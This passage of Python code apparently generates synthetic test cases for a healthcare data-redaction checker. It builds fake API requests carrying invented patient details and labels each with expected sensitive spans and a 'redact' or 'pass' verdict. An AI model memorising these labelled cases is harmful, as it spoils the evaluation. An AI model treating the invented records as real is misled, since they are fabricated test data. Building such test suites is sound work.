        rows.append(f"{x.mrn},{x.last},{x.first},{x.ad('iso')},{x.zip},{x.icd()},{x.dx()},{R.randint(80, 400)}.00")
        phi += [[x.mrn, "mrn"]] + NM(x) + [[x.ad("iso"), "date"], [x.zip, "zip"], [x.icd(), "icd10"], [x.dx(), "condition"]]
    txt = "mrn,last_name,first_name,visit_date,zip5,icd10,dx_desc,charge\n" + "\n".join(rows) + "\n"
    add(S, "PUT", f"{S3}/exports/2026-04-02/visits.csv", {**CSVH, "x-amz-content-sha256": "UNSIGNED-PAYLOAD", "x-amz-date": "20260402T150000Z",
        "Authorization": f"AWS4-HMAC-SHA256 Credential=AKIA{alnum(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}/20260402/us-west-2/s3/aws4_request, SignedHeaders=host, Signature={hexs(64)}"},
        txt, phi, ["visit_date", "exports"], "redact")
    rows = []; phi = []
    for x in (nextp(), nextp(), ELDERS[1]):
        rows.append(f"{x.mrn},{x.ad('iso')},{x.zip},{x.icd()},{x.age()}")
        phi += [[x.mrn, "mrn"], [x.ad("iso"), "date"], [x.zip, "zip"], [x.icd(), "icd10"]]
    phi.append([str(ELDERS[1].age()), "age_over_89"])
    txt = "mrn,visit_date,zip5,icd10,age\n" + "\n".join(rows) + "\n"
    add(S, "PUT", f"{S3}/exports/2026-04-02/visits_deid.csv", {**CSVH, "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}, txt, phi, ["visits_deid.csv"], "pass")
    p = nextp()
    x = (f'<?xml version="1.0"?><PatientExport generated="2026-04-02T15:00:00Z"><Patient id="{p.mrn}"><Name><Given>{xesc(p.first)}</Given><Family>{xesc(p.last)}</Family></Name>'
         f'<BirthDate>{p.dobs("iso")}</BirthDate><Telecom use="mobile">{p.phone("paren")}</Telecom><Problem code="{p.icd()}">{xesc(p.dx())}</Problem></Patient></PatientExport>')
    add(S, "PUT", f"{S3}/exports/2026-04-02/ccd/{p.mrn}.xml", {**XMLH, "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}, x,
        [[p.mrn, "mrn"]] + NM(p) + [[p.dobs("iso"), "dob"], [p.phone("paren"), "phone"], [p.icd(), "icd10"], [p.dx(), "condition"]], ["PatientExport"], "redact")

    S = "gcs_upload"
    objs = []; phi = []
    for x in (nextp(), nextp()):
        objs.append({"mrn": x.mrn, "email": x.email, "mobile": x.phone("plusdash"), "last_login_ip": x.ip, "portal_enrolled": "2025-11-0" + str(R.randint(1, 9))})
        phi += [[x.mrn, "mrn"], [x.email, "email"], [x.phone("plusdash"), "phone"], [x.ip, "ip_address"]]
    add(S, "POST", f"{GCS}/upload/storage/v1/b/sfm-analytics-raw/o?uploadType=media&name=portal%2Fusers-2026-04-02.ndjson",
        {**NDH, "Authorization": "Bearer ya29." + alnum(60)}, ND(objs), phi, ["portal_enrolled"], "redact")

    S = "bigquery"
    p = nextp(); q = nextp()
    body = {"kind": "bigquery#tableDataInsertAllRequest", "skipInvalidRows": False, "rows": [
        {"insertId": uuid(), "json": {"mrn": x.mrn, "first_name": x.first, "last_name": x.last, "dob": x.dobs("iso"), "zip": x.zip, "icd10": x.icd()}} for x in (p, q)]}
    phi = []
    for x in (p, q): phi += [[x.mrn, "mrn"]] + NM(x) + [[x.dobs("iso"), "dob"], [x.zip, "zip"], [x.icd(), "icd10"]]
    add(S, "POST", f"{BQ}/bigquery/v2/projects/sfm-analytics/datasets/clinical/tables/patients_stage/insertAll", {**JSONH, "Authorization": "Bearer ya29." + alnum(60)},
        J(body), phi, ["bigquery#tableDataInsertAllRequest", "patients_stage"], "redact")

    S = "snowflake"
    p = nextp()
    body = {"statement": "INSERT INTO STAGE.PATIENTS (MRN, FIRST_NAME, LAST_NAME, DOB, SSN) VALUES (?, ?, ?, ?, ?)", "timeout": 60, "database": "CLINICAL",
            "schema": "STAGE", "warehouse": "LOAD_WH", "bindings": {"1": {"type": "TEXT", "value": p.mrn}, "2": {"type": "TEXT", "value": p.first},
            "3": {"type": "TEXT", "value": p.last}, "4": {"type": "DATE", "value": p.dobs("iso")}, "5": {"type": "TEXT", "value": p.ssn}}}
    add(S, "POST", f"{SNOW}/api/v2/statements?requestId={uuid()}", {**JSONH, "Authorization": "Bearer " + alnum(60), "X-Snowflake-Authorization-Token-Type": "KEYPAIR_JWT"},
        J(body), [[p.mrn, "mrn"]] + NM(p) + [[p.dobs("iso"), "dob"], [p.ssn, "ssn"]], ["STAGE.PATIENTS", "LOAD_WH"], "redact")
    p = nextp(); lname = p.last.replace("'", "''")
    body = {"statement": f"UPDATE CLINICAL.CORE.PATIENTS SET MOBILE = '{p.phone('dash')}', EMAIL = '{p.email}' WHERE MRN = '{p.mrn}' AND LAST_NAME = '{lname}'",
            "warehouse": "LOAD_WH", "role": "ETL"}
    add(S, "POST", f"{SNOW}/api/v2/statements", {**JSONH, "Authorization": "Bearer " + alnum(60)}, J(body),
        [[p.phone("dash"), "phone"], [p.email, "email"], [p.mrn, "mrn"], [lname, "name"]], ["CLINICAL.CORE.PATIENTS"], "redact")

    S = "databricks"
    p = nextp()
    body = {"warehouse_id": hexs(16), "statement": "SELECT * FROM clinical.visits WHERE last_name = :ln AND dob = :dob", "wait_timeout": "30s",
            "parameters": [{"name": "ln", "value": p.last, "type": "STRING"}, {"name": "dob", "value": p.dobs("iso"), "type": "DATE"}]}
    add(S, "POST", f"{DBX}/api/2.0/sql/statements", {**JSONH, "Authorization": "Bearer dapi" + hexs(32)}, J(body), [[p.last, "name"], [p.dobs("iso"), "dob"]],
        ["clinical.visits"], "redact")
    p = nextp()
    body = {"job_id": int(digits(15)), "notebook_params": {"patient_email": p.email, "patient_name": p.full, "reason": "portal data export request (HIPAA right of access)"}}
    add(S, "POST", f"{DBX}/api/2.1/jobs/run-now", {**JSONH, "Authorization": "Bearer dapi" + hexs(32)}, J(body), [[p.email, "email"], [p.full, "name"]],
        ["portal data export request (HIPAA right of access)"], "redact")

    S = "elt_loaders"
    p = nextp()
    body = {"table_name": "appointments", "schema": {"properties": {"appt_id": {"type": "integer"}, "patient_name": {"type": "string"}, "patient_phone": {"type": "string"},
            "start": {"type": "string", "format": "date-time"}}}, "messages": [{"action": "upsert", "sequence": epoch(37) * 1000,
            "data": {"appt_id": int(digits(7)), "patient_name": p.full, "patient_phone": p.phone("one"), "start": p.at("z")}}], "key_names": ["appt_id"]}
    add(S, "POST", f"{STITCH}/v2/import/batch", {**JSONH, "Authorization": "Bearer " + hexs(64)}, J(body),
        [[p.full, "name"], [p.phone("one"), "phone"], [p.at("z"), "date"]], ["appointments", "key_names"], "redact")
    p = nextp()
    body = {"source": "intake-forms", "submitted": ts(38), "patient": {"email": p.email, "dob": p.dobs("us"), "zip": p.zip, "insurance": {"payer": p.payer, "member": p.mbr}}}
    add(S, "POST", f"{FIVE}/webhooks/{uuid()}", JSONH, J(body), [[p.email, "email"], [p.dobs("us"), "dob"], [p.zip, "zip"], [p.mbr, "member_id"]], ["intake-forms"], "redact")

    S = "warehouse_clean"
    body = {"kind": "bigquery#tableDataInsertAllRequest", "rows": [{"insertId": f"2026-04-01-{c}", "json": {"day": "2026-04-01", "clinic": c, "visits": v,
            "no_shows": n, "avg_wait_min": w}} for c, v, n, w in (("ina", 212, 14, 11.5), ("speedway", 168, 9, 8.2), ("tele", 95, 3, 2.1))]}
    add(S, "POST", f"{BQ}/bigquery/v2/projects/sfm-analytics/datasets/ops/tables/daily_volume/insertAll", {**JSONH, "Authorization": "Bearer ya29." + alnum(60)}, J(body),
        [], ["daily_volume", "2026-04-01-speedway", "11.5"], "pass")
    ddl = ("CREATE TABLE IF NOT EXISTS STAGE.PATIENTS (MRN VARCHAR(16), FIRST_NAME VARCHAR, LAST_NAME VARCHAR, DOB DATE, SSN VARCHAR(11) MASKING POLICY pii_mask, "
           "PHONE VARCHAR, EMAIL VARCHAR, ZIP VARCHAR(10), LOADED_AT TIMESTAMP_NTZ DEFAULT CURRENT_TIMESTAMP())")
    add(S, "POST", f"{SNOW}/api/v2/statements", {**JSONH, "Authorization": "Bearer " + alnum(60)}, J({"statement": ddl, "warehouse": "LOAD_WH", "role": "SYSADMIN"}), [],
        ["pii_mask", "TIMESTAMP_NTZ"], "pass")
    body = {"job_id": int(digits(15)), "notebook_params": {"run_date": "2026-04-02", "lookback_days": "30", "model_version": "noshow-xgb-1.8.3"}}
    add(S, "POST", f"{DBX}/api/2.1/jobs/run-now", {**JSONH, "Authorization": "Bearer dapi" + hexs(32)}, J(body), [], ["noshow-xgb-1.8.3", "2026-04-02"], "pass")
    txt = ("billing_code,description,gross_charge,discounted_cash_price,payer,negotiated_rate\n99213,Office visit est. patient,160.00,95.00,AHCCCS,71.24\n"
           "99214,Office visit est. patient moderate,230.00,140.00,Aetna,118.30\n80053,Comprehensive metabolic panel,62.00,18.00,Cigna,14.10\n")
    add(S, "PUT", f"{S3}/public/price-transparency/860000000_saguaro-family-medicine_standardcharges.csv", CSVH, txt, [], ["99214", "118.30", "Comprehensive metabolic panel"],
        "pass")
    body = {"articles": [{"slug": "valley-fever", "title": "Valley fever (coccidioidomycosis)", "body": "Valley fever is a fungal infection common in southern Arizona. "
            "Most people recover without treatment; see a clinician if a cough lasts more than two weeks."}, {"slug": "heat-illness", "title": "Heat illness",
            "body": "Drink water before you feel thirsty."}]}
    add(S, "POST", f"{GCS}/upload/storage/v1/b/sfm-web-content/o?uploadType=media&name=education%2Farticles.json", {**JSONH, "Authorization": "Bearer ya29." + alnum(60)},
        J(body), [], ["Valley fever (coccidioidomycosis)", "heat-illness"], "pass")


# ============================================================================= 13. ServiceNow / Freshservice (itsm: nothing)
def itsm():
    S = "servicenow"
    p = nextp(); wrong = fd(p.dob + timedelta(days=R.randint(40, 400)), "us")
    body = {"short_description": "Portal shows wrong DOB for a patient", "caller_id": staff(4, "name"), "assignment_group": "EHR Support", "urgency": "2",
            "description": f"Patient {p.full} (MRN {p.mrn}) says the portal lists her DOB as {wrong}; correct DOB is {p.dobs('us')}. She called from {p.phone('paren')}.",
            "category": "Patient Portal"}
    add(S, "POST", f"{SNOWN}/api/now/table/incident", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body),
        [[p.full, "name"], [p.mrn, "mrn"], [wrong, "dob"], [p.dobs("us"), "dob"], [p.phone("paren"), "phone"]], [staff(4, "name"), "EHR Support"], "redact")
    p = nextp()
    body = {"work_notes": f"Spoke w/ pt. Mailing address should be {p.street} {p.unit}, {p.city}, AZ {p.zip4}. Statement re-sent. -{staff(5, 'name')}", "state": "6"}
    add(S, "PATCH", f"{SNOWN}/api/now/table/incident/{hexs(32)}", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body),
        [[p.street, "address"], [p.zip4, "zip"]], [staff(5, "name")], "redact")
    p = ELDERS[0]
    body = {"short_description": "Patient fall in lobby", "u_incident_type": "Safety", "caller_id": staff(5, "name"),
            "description": f"{p.age()}-year-old patient {p.full} slipped near check-in kiosk K-03 at 10:20. No injury per {staff(1)}. Wet floor sign was missing."}
    add(S, "POST", f"{SNOWN}/api/now/table/incident", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body),
        [[str(p.age()), "age_over_89"], [p.full, "name"]], ["Patient fall in lobby", staff(1), "K-03"], "redact")

    S = "freshservice"
    p = nextp()
    body = {"subject": "Fax to Tucson Pulmonology failed 3x", "email": staff(4, "email"), "priority": 2, "status": 2, "source": 2,
            "description": f"<div>Fax for <b>{p.full}</b> DOB {p.dobs('us2')} failed three times. Cover sheet had SSN {p.ssn}. Please resend tonight.</div>"}
    add(S, "POST", f"{FRS}/api/v2/tickets", {**JSONH, "Authorization": "Basic " + b64(alnum(20) + ":X")}, J(body),
        [[p.full, "name"], [p.dobs("us2"), "dob"], [p.ssn, "ssn"]], [staff(4, "email"), "Fax to Tucson Pulmonology failed 3x"], "redact")
    p = nextp()
    body = {"subject": "Portal lockouts", "email": staff(4, "email"), "priority": 1, "status": 2,
            "description": f"User {p.email} locked out 6 times from IP {p.ip} since 7am. Is this an attack or just a forgotten password?"}
    add(S, "POST", f"{FRS}/api/v2/tickets", {**JSONH, "Authorization": "Basic " + b64(alnum(20) + ":X")}, J(body), [[p.email, "email"], [p.ip, "ip_address"]],
        ["Portal lockouts"], "redact")

    S = "itsm_clean"
    body = {"short_description": "Label printer in Exam 4 jams", "caller_id": staff(5, "name"), "assignment_group": "Desktop Support", "cmdb_ci": "ZD421-EXAM4",
            "description": f"Zebra ZD421 firmware V84.20.21Z jams on 2x1 labels. Reported by {staff(5, 'full')}."}
    add(S, "POST", f"{SNOWN}/api/now/table/incident", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body), [],
        [staff(5, "name"), "ZD421-EXAM4", "V84.20.21Z"], "pass")
    body = {"subject": "Lobby kiosk K-02 touchscreen unresponsive", "email": staff(4, "email"), "priority": 2, "status": 2,
            "description": "Elo 15-inch kiosk, asset tag SFM-IT-00412, serial E832419. Rebooted twice; still dead in lower half."}
    add(S, "POST", f"{FRS}/api/v2/tickets", {**JSONH, "Authorization": "Basic " + b64(alnum(20) + ":X")}, J(body), [], ["SFM-IT-00412", "K-02"], "pass")
    body = {"short_description": "Upgrade patient portal to 4.7.3", "type": "normal", "start_date": "2026-04-05 22:00:00", "end_date": "2026-04-05 23:30:00",
            "implementation_plan": "helm upgrade portal sfm/portal --version 4.7.3; smoke tests; rollback to 4.7.2 on failure", "assigned_to": staff(3, "name")}
    add(S, "POST", f"{SNOWN}/api/now/table/change_request", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body), [],
        ["2026-04-05 22:00:00", "4.7.3", staff(3, "name")], "pass")


# ============================================================================= 14. Teams adaptive cards and Power Automate (team-chat: nothing)
def adaptive_card(body_items):
    return {"type": "message", "attachments": [{"contentType": "application/vnd.microsoft.card.adaptive", "contentUrl": None,
            "content": {"$schema": "http://adaptivecards.io/schemas/adaptive-card.json", "type": "AdaptiveCard", "version": "1.4", "body": body_items}}]}


def teams():
    S = "teams_cards"
    p = nextp()
    card_ = adaptive_card([{"type": "TextBlock", "size": "Medium", "weight": "Bolder", "text": "Urgent callback"},
                           {"type": "FactSet", "facts": [{"title": "Patient", "value": p.full}, {"title": "DOB", "value": p.dobs("us")},
                                                         {"title": "Concern", "value": p.dx()}, {"title": "Assigned", "value": staff(5, "name")}]}])
    add(S, "POST", f"{TEAMS}/webhookb2/{uuid()}@{uuid()}/IncomingWebhook/{hexs(32)}/{uuid()}", JSONH, J(card_),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.dx(), "condition"]], ["Urgent callback", staff(5, "name")], "redact")
    p = nextp()
    card_ = adaptive_card([{"type": "TextBlock", "text": f"No-show: **{p.last}, {p.first}** ({p.mrn}) missed {p.ad('usn')} {p.appt:%H:%M} with {staff(0)}", "wrap": True},
                           {"type": "ActionSet", "actions": [{"type": "Action.OpenUrl", "title": "Open chart", "url": f"https://ehr.{SITE}/chart"}]}])
    add(S, "POST", f"{TEAMS}/webhookb2/{uuid()}@{uuid()}/IncomingWebhook/{hexs(32)}/{uuid()}", JSONH, J(card_),
        NM(p) + [[p.mrn, "mrn"], [p.ad("usn"), "date"]], ["Open chart", staff(0)], "redact")
    p = nextp()
    body = {"patientName": p.full, "callback": p.phone("slash"), "message": f"Needs refill before {p.ad('mon')}", "triggeredBy": "voicemail-bot"}
    add(S, "POST", f"{PAUTO}/workflows/{hexs(32)}/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig={alnum(43)}",
        JSONH, J(body), [[p.full, "name"], [p.phone("slash"), "phone"], [p.ad("mon"), "date"]], ["voicemail-bot"], "redact")

    S = "teams_clean"
    card_ = adaptive_card([{"type": "TextBlock", "text": "Deploy finished: patient-portal 4.7.2 -> 4.7.3", "weight": "Bolder"},
                           {"type": "FactSet", "facts": [{"title": "Commit", "value": "a91f3c2"}, {"title": "Duration", "value": "6m 41s"}, {"title": "By", "value": staff(3, "name")}]}])
    add(S, "POST", f"{TEAMS}/webhookb2/{uuid()}@{uuid()}/IncomingWebhook/{hexs(32)}/{uuid()}", JSONH, J(card_), [], ["a91f3c2", "6m 41s", staff(3, "name")], "pass")
    card_ = adaptive_card([{"type": "TextBlock", "text": "Morning huddle - Thu Apr 2", "weight": "Bolder"},
                           {"type": "FactSet", "facts": [{"title": "Scheduled", "value": "212"}, {"title": "Open slots", "value": "9"},
                                                         {"title": "On call", "value": staff(1)}, {"title": "Front desk lead", "value": staff(4, "name")}]}])
    add(S, "POST", f"{TEAMS}/webhookb2/{uuid()}@{uuid()}/IncomingWebhook/{hexs(32)}/{uuid()}", JSONH, J(card_), [], ["Morning huddle - Thu Apr 2", staff(1), staff(4, "name")],
        "pass")


# ============================================================================= 15. Twilio Studio executions (sms-flows: name, phone, date)
def twilio_studio():
    S = "twilio_studio"
    flow = "FW" + hexs(32)
    p = nextp(); dte = f"{MONTHS[p.appt.month - 1]} {p.appt.day}"
    params = {"first_name": p.first, "appt_time": p.at("human"), "provider": staff(0, "dr"), "dob": p.dobs("us")}
    add(S, "POST", f"{STUDIO}/v2/Flows/{flow}/Executions", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))},
        form([("To", p.phone("e164")), ("From", "+15207423100"), ("Parameters", J(params))]),
        [[p.phone("e164"), "phone"], [p.first, "name"], [dte, "date"], [p.dobs("us"), "dob"]], ["+15207423100", staff(0, "dr")], "redact")
    p = nextp()
    params = {"name": p.full, "topic": "results", "detail": f"Your {p.dx()} results are ready in the portal."}
    add(S, "POST", f"{STUDIO}/v2/Flows/{flow}/Executions", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))},
        form([("To", p.phone("e164")), ("From", "+15207423100"), ("Parameters", J(params))]), [[p.phone("e164"), "phone"], [p.full, "name"], [p.dx(), "condition"]],
        ["results"], "redact")
    p = nextp()
    params = {"patient": {"mrn": p.mrn, "first": p.first, "zip": p.zip}, "survey": "post-visit-v2"}
    add(S, "POST", f"{STUDIO}/v2/Flows/{flow}/Executions", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))},
        form([("To", p.phone("e164")), ("From", "+15207423100"), ("Parameters", J(params))]), [[p.phone("e164"), "phone"], [p.mrn, "mrn"], [p.first, "name"], [p.zip, "zip"]],
        ["post-visit-v2"], "redact")
    p = nextp(); dte = f"{MONTHS[p.appt.month - 1]} {p.appt.day}"
    params = {"first_name": p.first, "last_name": p.last, "appt_time": p.at("human"), "location": "Ina Rd"}
    add(S, "POST", f"{STUDIO}/v2/Flows/{flow}/Executions", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))},
        form([("To", p.phone("e164")), ("From", "+15207423100"), ("Parameters", J(params))]), [[p.phone("e164"), "phone"]] + NM(p) + [[dte, "date"]], ["Ina Rd"], "pass")

    S = "studio_clean"
    definition = {"description": "Appointment reminder", "states": [{"name": "Trigger", "type": "trigger", "transitions": [{"event": "incomingRequest", "next": "send_reminder"}]},
                  {"name": "send_reminder", "type": "send-message", "properties": {"from": "{{flow.channel.address}}",
                   "body": "Hi {{flow.data.first_name}}, reminder of your visit on {{flow.data.appt_time}}. Reply C to confirm."}}], "initial_state": "Trigger"}
    add(S, "POST", f"{STUDIO}/v2/Flows/{flow}", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))},
        form([("FriendlyName", "Appt reminder v4"), ("Status", "published"), ("Definition", J(definition)), ("CommitMessage", "copy tweak")]), [],
        ["Appt reminder v4", "send_reminder", "{{flow.data.first_name}}"], "pass")


# ============================================================================= 16. SendGrid dynamic template data (email: name, email, date)
def sendgrid():
    S = "sendgrid_dynamic"
    SGH = {**JSONH, "Authorization": "Bearer SG." + alnum(22) + "." + alnum(43)}
    p = nextp(); last4 = card("4" + digits(5))[-4:]
    body = {"from": {"email": f"billing@{SITE}", "name": PRACTICE}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": p.email, "name": p.full}],
            "dynamic_template_data": {"patient": {"first_name": p.first, "dob": p.dobs("dmy")}, "balance": "$45.00", "card_last4": last4, "due": "2026-04-30"}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [[p.email, "email"], [p.full, "name"], [p.first, "name"], [p.dobs("dmy"), "dob"]], ["$45.00", "2026-04-30"], "redact")
    p = nextp()
    body = {"from": {"email": f"noreply@{SITE}"}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": p.email}],
            "dynamic_template_data": {"name": p.first, "result": {"test": "Hemoglobin A1c", "value": "8.9 %", "interpretation": f"consistent with {p.dx()}"},
                                      "ordered_by": staff(1)}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [[p.email, "email"], [p.first, "name"], [p.dx(), "condition"]], ["Hemoglobin A1c", staff(1)], "redact")
    p = nextp()
    body = {"from": {"email": f"records@{SITE}"}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": p.email, "name": p.full}],
            "dynamic_template_data": {"mailing": {"line1": p.street, "line2": p.unit, "city": p.city, "state": "AZ", "zip": p.zip4}, "tracking": "9400" + digits(18)}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [[p.email, "email"], [p.full, "name"], [p.street, "address"], [p.zip4, "zip"]],
        [body["personalizations"][0]["dynamic_template_data"]["tracking"]], "redact")
    p = nextp()
    body = {"from": {"email": f"appointments@{SITE}"}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": p.email, "name": p.full}],
            "dynamic_template_data": {"first_name": p.first, "appt_date": p.ad("long"), "appt_time": f"{p.appt:%H:%M}", "location": PRACTICE_ADDR}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [[p.email, "email"], [p.full, "name"], [p.first, "name"], [p.ad("long"), "date"]], [PRACTICE_ADDR], "pass")

    S = "sendgrid_clean"
    body = {"from": {"email": f"news@{SITE}", "name": PRACTICE}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": "list-2026-04@lists.saguarofm.com"}],
            "dynamic_template_data": {"headline": "Valley fever season is here", "body": "Spores rise with the dust after monsoon storms. A cough, fever or rash lasting more "
                                      "than a week is worth a visit. Ask about the Valley fever blood test.", "cta_phone": PRACTICE_PHONE, "signoff": staff(0, "dr")}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [], ["Valley fever season is here", PRACTICE_PHONE, staff(0, "dr")], "pass")
    body = {"from": {"email": f"noreply@{SITE}"}, "template_id": "d-" + hexs(32), "personalizations": [{"to": [{"email": staff(3, "email"), "name": staff(3, "name")}],
            "dynamic_template_data": {"first_name": STAFF[3][0], "report": "Weekly quality metrics", "a1c_control_rate": "71.4%", "bp_control_rate": "68.0%", "week": "2026-W14"}}]}
    add(S, "POST", f"{SG}/v3/mail/send", SGH, J(body), [], [staff(3, "email"), "71.4%", "2026-W14"], "pass")


# ============================================================================= 17. wallet passes (wallet: nothing)
def wallet():
    S = "wallet_pass"
    GWH = {**JSONH, "Authorization": "Bearer ya29." + alnum(60)}
    p = nextp(); qr = f"SFMCHK|{p.mrn}|{p.dobs('d8')}"
    body = {"id": f"3388000000022{digits(6)}.{p.mrn}", "classId": "3388000000022184621.sfm_patient_card", "state": "ACTIVE",
            "cardTitle": {"defaultValue": {"language": "en-US", "value": PRACTICE}}, "header": {"defaultValue": {"language": "en-US", "value": p.full}},
            "textModulesData": [{"id": "dob", "header": "Date of birth", "body": p.dobs("us")}, {"id": "pcp", "header": "Primary care", "body": staff(0, "dr")}],
            "barcode": {"type": "QR_CODE", "value": qr, "alternateText": p.mrn}, "hexBackgroundColor": "#1f5f4a"}
    add(S, "POST", f"{GWAL}/walletobjects/v1/genericObject", GWH, J(body),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.dobs("d8"), "dob"]], ["sfm_patient_card", staff(0, "dr"), "#1f5f4a"], "redact")
    p = nextp()
    body = {"textModulesData": [{"id": "next", "header": "Next visit", "body": f"{p.ad('mon')} {p.appt:%I:%M %p} with {staff(2)}"},
                                {"id": "name", "header": "Patient", "body": f"{p.first} {p.last[0]}."}, {"id": "reason", "header": "Visit", "body": p.dx()}]}
    add(S, "PATCH", f"{GWAL}/walletobjects/v1/genericObject/3388000000022{digits(6)}.{p.mrn}", GWH, J(body),
        [[p.ad("mon"), "date"], [p.first, "name"], [p.dx(), "condition"], [p.mrn, "mrn"]], [staff(2)], "redact")
    p = nextp()
    body = {"programId": alnum(22), "tierId": "patient", "externalId": p.mrn, "person": {"forename": p.first, "surname": p.last, "displayName": p.full,
            "emailAddress": p.email, "mobileNumber": p.phone("e164"), "dateOfBirth": p.dobs("iso")}, "metaData": {"insurance": p.payer, "memberId": p.mbr}}
    add(S, "POST", f"{PKIT}/members/member", {**JSONH, "Authorization": alnum(80)}, J(body),
        [[p.mrn, "mrn"]] + NM(p) + [[p.full, "name"], [p.email, "email"], [p.phone("e164"), "phone"], [p.dobs("iso"), "dob"], [p.mbr, "member_id"]], ["patient"], "redact")
    p = nextp(); vd = fd(date(2026, 3, R.randint(2, 27)), "iso")
    body = {"programId": alnum(22), "tierId": "immunization", "person": {"displayName": p.full}, "metaData": {"vaccine": "COVID-19 2025-2026 Formula (Moderna)",
            "lot": "3045TX2", "dateGiven": vd, "site": "L deltoid"}}
    add(S, "POST", f"{PKIT}/members/member", {**JSONH, "Authorization": alnum(80)}, J(body), [[p.full, "name"], [vd, "date"]], ["3045TX2", "COVID-19 2025-2026 Formula (Moderna)"],
        "redact")

    S = "wallet_clean"
    body = {"id": "3388000000022184621.sfm_patient_card", "issuerName": PRACTICE, "reviewStatus": "UNDER_REVIEW",
            "classTemplateInfo": {"cardTemplateOverride": {"cardRowTemplateInfos": [{"oneItem": {"item": {"firstValue": {"fields": [{"fieldPath": "object.textModulesData['dob']"}]}}}}]}},
            "linksModuleData": {"uris": [{"uri": f"tel:{PRACTICE_PHONE_DASH}", "description": "Call us"}, {"uri": f"https://maps.google.com/?q={quote(PRACTICE_ADDR + ' ' + PRACTICE_CITY)}",
                                          "description": PRACTICE_ADDR}]}}
    add(S, "POST", f"{GWAL}/walletobjects/v1/genericClass", {**JSONH, "Authorization": "Bearer ya29." + alnum(60)}, J(body), [],
        ["sfm_patient_card", PRACTICE_PHONE_DASH, PRACTICE_ADDR], "pass")


# ============================================================================= 18. lobby check-in kiosks (kiosk: name, dob, date, mrn, member_id)
def kiosk():
    S = "kiosk_checkin"
    KH = {**JSONH, "X-Kiosk-Id": "K-03", "Authorization": "Bearer " + alnum(40)}
    p = nextp()
    body = {"kioskId": "K-03", "scan": {"format": "QR_CODE", "raw": f"SFMCHK:v2;mrn={p.mrn};dob={p.dobs('d8')};appt=APT-{digits(7)};"},
            "patientConfirmed": {"name": p.full, "dob": p.dobs("us")}, "phoneOnFile": p.phone("dash"), "emailOnFile": p.email, "checkedInAt": ts(40)}
    add(S, "POST", f"{KIOSK}/v2/checkins", KH, J(body),
        [[p.mrn, "mrn"], [p.dobs("d8"), "dob"], [p.full, "name"], [p.dobs("us"), "dob"], [p.phone("dash"), "phone"], [p.email, "email"]], ["QR_CODE", "K-03"], "redact")
    p = nextp()
    body = {"kioskId": "K-01", "document": {"type": "DRIVER_LICENSE", "issuer": "AZ", "number": p.dl, "name": f"{p.last.upper()}, {p.first.upper()}",
            "address": f"{p.street.upper()} {p.unit.upper()}", "city": p.city.upper(), "zip": p.zip, "dob": p.dobs("us"), "expires": "03/04/2031"}, "ocrConfidence": 0.97}
    add(S, "POST", f"{KIOSK}/v2/id-scans", {**KH, "X-Kiosk-Id": "K-01"}, J(body),
        [[p.dl, "drivers_license"]] + NM(p) + [[p.street.upper(), "address"], [p.zip, "zip"], [p.dobs("us"), "dob"]], ["DRIVER_LICENSE", "03/04/2031"], "redact")
    p = nextp()
    body = {"kioskId": "K-02", "insuranceCard": {"payer": p.payer, "memberId": p.mbr, "groupNumber": "0071234", "subscriber": p.full, "rxBin": "610014",
            "rxPcn": "9999", "copayPcp": "$25"}, "patientMrn": p.mrn}
    add(S, "POST", f"{KIOSK}/v2/insurance-scans", {**KH, "X-Kiosk-Id": "K-02"}, J(body), [[p.mbr, "member_id"], [p.full, "name"], [p.mrn, "mrn"]],
        ["610014", "$25"], "pass")
    p = nextp()
    body = {"kioskId": "K-03", "questionnaire": "PHQ-9", "patientMrn": p.mrn, "answers": [3, 2, 3, 2, 1, 2, 2, 1, 1], "score": 17,
            "severity": "moderately severe depression", "item9": "thoughts of self-harm: several days", "ssnForBilling": p.ssn.replace("-", "")}
    add(S, "POST", f"{KIOSK}/v2/questionnaires", KH, J(body), [[p.mrn, "mrn"], ["moderately severe depression", "condition"], [p.ssn.replace("-", ""), "ssn"]],
        ["PHQ-9"], "redact")

    S = "kiosk_clean"
    body = {"kioskId": "K-02", "serial": "ELO-E832419", "firmware": "kiosk-os 12.4.1", "uptimeSec": 86211, "printer": {"model": "Zebra ZD421", "labels": 412},
            "network": {"ip": "10.20.1.42", "rssi": -51}}
    add(S, "POST", f"{KIOSK}/v2/heartbeat", {**KH, "X-Kiosk-Id": "K-02"}, J(body), [], ["kiosk-os 12.4.1", "10.20.1.42", "ELO-E832419"], "pass")
    body = {"board": "lobby-ina", "updated": ts(41), "waits": [{"provider": staff(0), "minutes": 12}, {"provider": staff(1), "minutes": 25}, {"provider": staff(2), "minutes": 5}],
            "message": "Flu shots available today - ask at the front desk."}
    add(S, "POST", f"{KIOSK}/v2/wait-board", KH, J(body), [], [staff(0), staff(2), "Flu shots available today - ask at the front desk."], "pass")


